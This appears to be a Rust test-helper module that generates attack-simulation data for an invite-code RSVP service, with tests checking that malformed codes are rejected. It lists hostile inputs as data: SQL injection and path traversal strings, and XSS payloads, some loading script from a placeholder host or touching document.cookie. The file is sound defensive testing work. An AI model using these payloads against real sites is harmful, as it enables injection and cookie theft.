// SPDX-FileCopyrightText: 2025 Hyperpolymath
// SPDX-License-Identifier: PMPL-1.0-or-later

//! Test data generators for attack simulation.

use std::net::{IpAddr, Ipv4Addr};

/// Generate a pool of IP addresses for testing.
pub fn generate_ips(count: usize) -> Vec<IpAddr> {
    (0..count)
        .map(|i| {
            // Use 10.x.x.x private range
            let a = ((i >> 16) & 0xFF) as u8;
            let b = ((i >> 8) & 0xFF) as u8;
            let c = (i & 0xFF) as u8;
            IpAddr::V4(Ipv4Addr::new(10, a, b, c))
        })
        .collect()
}

/// Generate well-formed invite codes that are not assigned to any seeded
/// guest, as an enumerator would try them.
pub fn generate_codes(count: usize) -> Vec<String> {
    (0..count).map(|i| format!("Z{:05}", i)).collect()
}

/// Invite code inputs that must be rejected before any lookup.
pub fn generate_malformed_codes() -> Vec<&'static str> {
    vec![
        "",
        "   ",
        "ab",
        "ABCDEFG",
        "ABC-12",
        "ABC 12",
        "WED12\u{0}",
        "WED12Ä",
        "' OR 1=1 --",
        "../../etc",
        "%57ED123",
    ]
}

/// Markup a bot might try to plant in free-text fields.
pub fn generate_xss_payloads() -> Vec<&'static str> {
    vec![
        "<script>alert(1)</script>",
        "<ScRiPt src=//evil.example/x.js></ScRiPt>",
        "<iframe src=javascript:alert(1)></iframe>",
        "<img src=x onerror=alert(1)>",
        "javascript:alert(document.cookie)",
        "<svg onload=alert(1)>",
        "<scr<script>ipt>alert(1)",
        "javajavascript:script:alert(1)",
        "<ifr<iframe>ame src=//evil.example>",
    ]
}

/// A user agent per index, so fingerprints differ across a pool.
pub fn generate_user_agents(count: usize) -> Vec<String> {
    (0..count)
        .map(|i| format!("Mozilla/5.0 (bot-{}) python-requests/2.{}", i, i % 32))
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use rsvp_guard::invite::InviteCode;

    #[test]
    fn test_generate_ips() {
        let ips = generate_ips(256);
        assert_eq!(ips.len(), 256);
        // All should be unique
        let unique: std::collections::HashSet<_> = ips.iter().collect();
        assert_eq!(unique.len(), 256);
    }

    #[test]
    fn test_generated_codes_are_well_formed() {
        for code in generate_codes(50) {
            assert!(InviteCode::parse(&code).is_some(), "{}", code);
        }
    }

    #[test]
    fn test_malformed_codes_are_rejected() {
        for code in generate_malformed_codes() {
            assert!(InviteCode::parse(code).is_none(), "{:?}", code);
        }
    }
}
